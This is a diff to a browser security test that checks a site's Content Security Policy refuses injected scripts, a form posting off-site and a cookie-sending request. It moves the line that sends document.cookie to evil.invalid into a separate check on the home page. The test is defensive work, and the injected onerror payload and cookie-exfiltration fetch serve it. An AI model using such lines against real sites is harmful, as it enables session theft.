@@ -63,14 +63,16 @@ def test_the_content_security_policy_blocks_injected_scripts(person, server):
             document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.pwned = 1">')
             document.body.insertAdjacentHTML("beforeend", '<form action="https://evil.invalid/"><button>x</button></form>')
             document.querySelector("form[action*=evil]").submit()
-            fetch("https://evil.invalid/?" + document.cookie).catch(() => {})
         }"""
     )
-    wait_until(bob, "() => (window.refused ?? []).length >= 5")
+    wait_until(bob, "() => (window.refused ?? []).length >= 4")
     refused = bob.evaluate("() => window.refused")
-    assert {"script-src-elem", "script-src-attr", "form-action", "connect-src"} <= set(refused)
+    assert {"script-src-elem", "script-src-attr", "form-action"} <= set(refused)
     unharmed_here = bob.evaluate("() => window.pwned")
     assert unharmed_here is None
+    bob.goto("/")  # a room's page may fetch streams from other hosts, no other page may
+    bob.evaluate("""() => void fetch("https://evil.invalid/?" + document.cookie).catch(() => {})""")
+    wait_until(bob, "() => (window.refused ?? []).includes('connect-src')")
 
 
 def test_a_page_open_since_before_its_browser_signed_in_still_works(person, server):
